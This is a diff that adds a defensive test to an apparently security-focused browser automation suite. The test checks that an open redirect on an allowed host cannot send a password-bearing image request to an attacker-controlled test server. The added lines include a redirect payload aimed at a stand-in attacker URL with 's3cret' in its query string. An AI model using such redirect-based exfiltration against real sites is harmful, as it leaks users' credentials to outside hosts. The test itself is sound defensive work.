@@ -305,6 +305,17 @@ def test_third_party_image_is_blocked_and_noted_and_the_run_goes_on(tmp_path, pr
     assert shots and all(m["server_port"] == provider.port and m["server_ip"] == "127.0.0.1" for m in shots)
 
 
+def test_open_redirect_on_the_allowed_host_does_not_carry_data_away(tmp_path, provider, attacker):
+    # An image on the provider that bounces to another host: the hop is refused by the guard's proxy.
+    provider.pages["/bounce"] = (302, {"Location": f"{attacker.url}/pixel.png?pw=s3cret"}, "")
+    provider.pages["/start"] = page_with('<img src="/bounce">')
+    done = run_flow(tmp_path, provider, START + FILL_AND_SEND)
+    assert attacker.log == [] and "/bounce" in provider.paths()
+    assert done.returncode == 0, done.stderr
+    assert f"note: blocked image from 127.0.0.2:{attacker.port}" in done.stderr
+    assert "s3cret" not in done.stderr
+
+
 def test_image_from_allowed_resources_loads(tmp_path, provider, attacker):
     provider.pages["/start"] = page_with(f'<img src="{attacker.url}/logo.png">')
     attacker.pages["/logo.png"] = (200, {"Content-Type": "image/svg+xml"}, "<svg xmlns='http://www.w3.org/2000/svg'/>")
